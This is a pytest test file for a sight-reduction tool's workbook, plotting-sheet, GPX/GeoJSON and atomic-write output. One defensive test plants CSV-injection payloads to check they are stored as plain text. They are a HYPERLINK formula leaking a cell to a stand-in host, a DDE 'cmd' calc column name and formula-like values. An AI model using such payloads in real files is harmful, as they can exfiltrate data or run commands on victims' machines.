"""The workbook, the plotting sheets and the open-format exports."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import numpy as np
import openpyxl
import pandas as pd
import pytest

from navred.figures.plotting import save_plotting_sheet
from navred.io.exports import GPX_NAMESPACE
from navred.io.output import atomic_write
from navred.io.workbook import SAFETY
from navred.jobs.chartfiles import write_voyage_geojson as write_geojson
from navred.jobs.chartfiles import write_voyage_gpx as write_gpx
from navred.jobs.frames import fix_position
from navred.jobs.voyage import process_log
from navred.jobs.voyagebook import write_workbook
from tests.conftest import offset_position, skyfield_sight


@pytest.fixture(scope="module")
def mixed_log(tmp_path_factory):
    """The demo log with bad rows added among the good ones."""
    folder = tmp_path_factory.mktemp("log")
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    bad = demo.iloc[[5, 6]].copy()
    bad.iloc[0, bad.columns.get_loc("utc")] = "2026-03-26T19:41:00"  # no zone
    bad.iloc[1, bad.columns.get_loc("body")] = "Betelguese"
    log = pd.concat([demo.iloc[:6], bad, demo.iloc[6:]], ignore_index=True)
    path = folder / "mixed.csv"
    log.to_csv(path, index=False)
    return path, len(log)


def test_every_input_row_is_in_the_workbook_and_values_read_back(mixed_log, tmp_path):
    path, n_rows = mixed_log
    voyage = process_log(path)
    out = write_workbook(voyage, tmp_path / "voyage.xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["About", "Sights as read", "Working", "Fixes", "Rejected", "Sight plan", "Day's work"]
    working = pd.DataFrame(list(book["Working"].values)[1:], columns=list(book["Working"].values)[0])
    rejected = pd.DataFrame(list(book["Rejected"].values)[1:], columns=list(book["Rejected"].values)[0])
    as_read = list(book["Sights as read"].values)
    assert len(as_read) - 1 == n_rows
    # round trip: reduced + rejected = input, no row twice
    reduced_rows = set(working["row in log"])
    rejected_rows = set(rejected["row in log"])
    # rows as a spreadsheet numbers them: the header is row 1, the sights rows 2 to n + 1
    assert reduced_rows | rejected_rows == set(range(2, n_rows + 2))
    assert not reduced_rows & rejected_rows
    assert rejected_rows == {8, 9}
    assert any("no time zone" in r for r in rejected.reason) and any("closest" in r for r in rejected.reason)
    # values read back with openpyxl equal what was computed
    computed = voyage.reduced[voyage.reduced.status != "error"].reset_index(drop=True)
    assert np.allclose(working["Ho (deg)"].astype(float), computed.ho_deg)
    assert np.allclose(working["Zn (deg)"].astype(float), computed.zn_deg)
    assert list(working["TOWARD/AWAY"]) == list(computed.intercept_direction)
    fixes = pd.DataFrame(list(book["Fixes"].values)[1:], columns=list(book["Fixes"].values)[0])
    star_fix = next(g.fix for g in voyage.groups if g.name == "evening-stars")
    row = fixes[fixes["fix group"] == "evening-stars"].iloc[0]
    assert row["latitude (deg)"] == pytest.approx(star_fix.lat_deg)
    assert row["95 % semi-major (nm)"] == pytest.approx(star_fix.ellipse_semi_major_nm)
    assert len(book["Fixes"]._images) == 3  # a plotting sheet per fix
    # the front sheet carries the safety caution and the provenance
    about = [c for row in book["About"].values for c in row if c]
    assert SAFETY in about
    assert any("DE421" in str(c) for c in about) and any("finals2000A" in str(c) for c in about)
    assert book["Working"].freeze_panes == "A2"


def test_unknown_columns_reach_the_working_sheet(tmp_path):
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo["Cadet Note"] = [f"note {i}" for i in range(len(demo))]
    path = tmp_path / "noted.csv"
    demo.to_csv(path, index=False)
    book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "noted.xlsx", plots=False))
    values = list(book["Working"].values)
    assert "cadet_note" in values[0]
    assert [row[values[0].index("cadet_note")] for row in values[1:]] == [f"note {i}" for i in range(len(demo))]


def test_the_workbook_plans_the_next_twilight(mixed_log, tmp_path):
    voyage = process_log(mixed_log[0])
    plan = voyage.next_plan
    last_fix = max(g.fix.utc for g in voyage.groups if g.fix is not None)
    assert plan.utc > last_fix + np.timedelta64(6, "h")  # the morning after the evening stars
    assert plan.recommended.sum() == 3
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx"))
    cells = [c for row in book["Sight plan"].values for c in row if c]
    assert "How the set was chosen" in cells and len(book["Sight plan"]._images) == 1


def test_summary_counts(mixed_log):
    voyage = process_log(mixed_log[0])
    assert voyage.summary() == "11 sights reduced, 3 fixes, 2 rejected"


def _lops_fix(ts, eph, names, offset=(3.0, -4.0)):
    from navred import reduce_sights

    when = pd.Timestamp("2024-09-15T19:05:00Z")
    rows = [skyfield_sight(ts, eph, name, when + pd.Timedelta(minutes=k), 45.25, -20.5)
            for k, name in enumerate(names)]
    frame = pd.DataFrame(rows)
    lat, lon = offset_position(45.25, -20.5, *offset)
    frame["dr_lat"], frame["dr_lon"] = float(lat), float(lon)
    reduced = reduce_sights(frame)
    return fix_position(reduced, at_utc=when), reduced


@pytest.mark.parametrize("names, offset", [
    (["Vega", "Arcturus"], (3.0, -4.0)),
    (["Vega", "Arcturus", "Antares"], (3.0, -4.0)),
    (["Vega", "Altair", "Arcturus", "Deneb", "Antares", "Dubhe", "Kochab", "Alphecca", "Rasalhague",
      "Eltanin", "Alkaid", "Polaris"], (3.0, -4.0)),
    (["Vega", "Arcturus", "Antares", "Dubhe"], (60.0, 90.0)),  # a fix 110 nm from the DR
])
def test_plotting_sheet_renders(ts, eph, tmp_path, names, offset):
    fix, reduced = _lops_fix(ts, eph, names, offset)
    times = reduced.sight_utc.dt.strftime("%H:%M")
    for suffix in ("png", "svg"):
        save_plotting_sheet(fix, reduced.body_name, times, tmp_path / f"sheet.{suffix}",
                            title=f"{len(names)} lines", chart=(45.25, -20.5))
    from PIL import Image

    with Image.open(tmp_path / "sheet.png") as png:  # a real picture, at the size asked, with lines drawn on it
        assert png.format == "PNG" and png.size == (880, 880)
        assert len(png.convert("RGB").getcolors(1 << 20)) > 50
    svg = (tmp_path / "sheet.svg").read_text()
    root = ET.fromstring(svg)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"  # well-formed SVG (W3C SVG 1.1)
    assert len(root.findall("{http://www.w3.org/2000/svg}polyline")) >= len(names)
    plotted = set(reduced.body_name[np.isfinite(fix.lop_intercept_nm)])
    assert len(plotted) == len(names)
    assert all(f">{name} " in svg for name in plotted)  # every line is labelled with its body
    assert "nautical mile" in svg and ">N<" in svg and ">DR<" in svg and "fix " in svg


def test_gpx_and_geojson_exports(tmp_path):
    voyage = process_log("sample_sights/demo_sights.csv")
    gpx = ET.parse(write_gpx(voyage, tmp_path / "fixes.gpx")).getroot()
    assert gpx.tag == f"{{{GPX_NAMESPACE}}}gpx" and gpx.get("version") == "1.1"  # GPX 1.1 schema
    points = gpx.findall(f"{{{GPX_NAMESPACE}}}wpt")
    assert len(points) == 6  # a fix and a DR per group
    star = next(g.fix for g in voyage.groups if g.name == "evening-stars")
    fix_point = next(p for p in points if p.find(f"{{{GPX_NAMESPACE}}}name").text == "fix evening-stars")
    assert float(fix_point.get("lat")) == pytest.approx(star.lat_deg, abs=1e-6)
    data = json.loads(write_geojson(voyage, tmp_path / "fixes.geojson").read_text())
    assert data["type"] == "FeatureCollection"
    kinds = [f["properties"]["kind"] for f in data["features"]]
    assert kinds.count("fix") == 3 and kinds.count("line of position") == 11
    fix_feature = next(f for f in data["features"] if f["properties"]["kind"] == "fix"
                       and f["properties"]["fix_group"] == "evening-stars")
    # RFC 7946: positions are [longitude, latitude]
    assert fix_feature["geometry"]["coordinates"] == pytest.approx([star.lon_deg, star.lat_deg])
    ring = next(f for f in data["features"] if f["properties"]["kind"] == "95 % ellipse")["geometry"]["coordinates"][0]
    assert ring[0] == ring[-1]


def test_atomic_write_keeps_the_old_file_when_interrupted(tmp_path):
    target = tmp_path / "voyage.xlsx"
    target.write_text("the good old log")

    def interrupted(path):
        with open(path, "w") as handle:
            handle.write("half a work")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, interrupted)
    assert target.read_text() == "the good old log"
    assert [p.name for p in tmp_path.iterdir()] == ["voyage.xlsx"]  # no temporary left behind


def test_progress_is_reported_for_a_large_log(tmp_path):
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    big = pd.concat([demo] * 550, ignore_index=True)
    path = tmp_path / "big.csv"
    big.to_csv(path, index=False)
    calls = []
    voyage = process_log(path, progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (len(big), len(big)) and len(calls) > 1
    assert voyage.n_reduced == len(big)


def test_the_working_sheet_adds_up_and_shows_its_numbers_to_a_tenth(tmp_path):
    import datetime as dt

    voyage = process_log("sample_sights/demo_sights_hand_kept.csv")
    book = openpyxl.load_workbook(write_workbook(voyage, tmp_path / "v.xlsx", plots=False))
    sheet = book["Working"]
    header = [c.value for c in sheet[1]]
    row = [c for c in sheet[2]]
    cell = dict(zip(header, row))
    # every correction signed: Hs + the total correction = Ho, and the total is the sum of the lines
    lines = ["IC (′)", "horizon (′)", "dip (′)", "refraction (′)", "SD (′)", "parallax (′)", "phase (′)"]
    total = sum(cell[name].value for name in lines)
    assert total == pytest.approx(cell["total correction (′)"].value, abs=1e-9)
    assert cell["Hs (deg)"].value + total / 60 == pytest.approx(cell["Ho (deg)"].value, abs=1e-12)
    assert cell["dip (′)"].value < 0 and cell["refraction (′)"].value < 0
    # displayed to 0.1′ (decimal degrees to 0.0001°) while the cell keeps full precision
    assert cell["dip (′)"].number_format == "0.0" and cell["Ho (deg)"].number_format == "0.0000"
    assert isinstance(cell["UTC"].value, dt.datetime) and cell["UTC"].number_format == "yyyy-mm-dd hh:mm:ss"
    # the time working and the units as given are shown
    assert cell["time as read"].value == "08:09:53" and cell["watch error (s, fast +)"].value == -7
    assert cell["ZD (h)"].value == "+1" and cell["height of eye as given"].value == "9.1864 feet"


def test_text_from_a_log_is_never_written_as_a_formula(tmp_path):
    # OWASP, "CSV Injection": a cell that begins with = (or +, -, @) must not become a live formula
    demo = pd.read_csv("sample_sights/demo_sights.csv", dtype=str, keep_default_na=False)
    demo["observer"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    demo["fix_group"] = "@SUM(1+1)"
    demo["=cmd|' /C calc'!A0"] = "+1+1"  # an extra column named like a formula (OWASP's own example)
    demo["remark\x07"] = "-2-2"  # a control character in a header: the format cannot hold it
    path = tmp_path / "=injected.csv"  # the file name is written too (About sheet)
    demo.to_csv(path, index=False)
    book = openpyxl.load_workbook(write_workbook(process_log(path), tmp_path / "v.xlsx", plots=False))
    seen = set()
    for name in book.sheetnames:
        for cells in book[name].iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert demo.observer[0] in seen and "=cmd|' /C calc'!A0" in seen and "+1+1" in seen
    assert "remark\ufffd" in seen  # the control character shown as U+FFFD, the rest kept
    assert any(v.startswith("@SUM(1+1)") for v in seen) and any("=injected.csv" in v for v in seen)


def test_a_workbooks_tables_go_to_a_temporary_file_as_they_are_made_and_come_back_unchanged(tmp_path, monkeypatch):
    """A table's rows are made a few at a time and written to a temporary file, not held until the save; the
    workbook streamed from it is, sheet for sheet, the one made with every row at once."""
    import zipfile

    import navred.io.xlsxtables as xlsxtables

    voyage = process_log("sample_sights/training_sights.csv", plan=False)
    made = []
    original = xlsxtables.TableWriter.write

    def watched(self, sheet, frame, **options):
        original(self, sheet, frame, **options)
        made.append(self._plans[sheet.title].blocks[-1])

    monkeypatch.setattr(xlsxtables.TableWriter, "write", watched)
    monkeypatch.setattr(xlsxtables, "ROWS_AT_ONCE", 7)
    few = write_workbook(voyage, tmp_path / "few.xlsx", plots=False)
    spilled = [block for block in made if block.lengths is not None]
    assert spilled and all(block.rows == [] and len(block.lengths) == block.last_row - block.first_row + 1
                           for block in spilled)
    monkeypatch.setattr(xlsxtables, "ROWS_AT_ONCE", 1_000_000)
    many = write_workbook(voyage, tmp_path / "many.xlsx", plots=False)
    with zipfile.ZipFile(few) as a, zipfile.ZipFile(many) as b:
        assert a.namelist() == b.namelist()
        for name in a.namelist():
            if name.startswith("xl/worksheets/") and "sheet1.xml" not in name:  # (the About sheet has the time)
                assert a.read(name) == b.read(name), name
    book = openpyxl.load_workbook(few, read_only=True)
    assert book["Working"].max_row == len(voyage.reduced) + 1
